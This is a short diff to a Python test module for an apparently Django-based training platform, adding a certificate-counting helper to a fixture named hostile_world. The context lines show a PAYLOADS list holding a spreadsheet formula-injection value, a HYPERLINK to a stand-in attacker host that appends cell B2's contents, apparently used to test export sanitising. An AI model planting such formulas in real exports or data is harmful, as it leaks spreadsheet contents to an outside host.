@@ -27,7 +27,7 @@ from courses.models import CoursePage, StakeholderGroup
 from outreach.models import InPersonSession, Organisation, OrganisationManager
 from quizzes.models import Answer, Attempt
 from quizzes.testing import make_quiz
-from tests.conftest import confirm_password, make_user
+from tests.conftest import certificates_written, confirm_password, make_user
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?"&B2,"Open record")',
@@ -162,6 +162,7 @@ def hostile_world(course_index, hotel_group):
                                                                     datetime.time(9))),
             issued_on=ISSUED_ON, expires_on=ISSUED_ON + datetime.timedelta(days=730),
             code=codes.new_code())
+        certificates_written()
         log(certificate, "certificate.issued", user=learner)
         learners.append(learner)
     started_at = timezone.make_aware(datetime.datetime.combine(ISSUED_ON, datetime.time(8)))
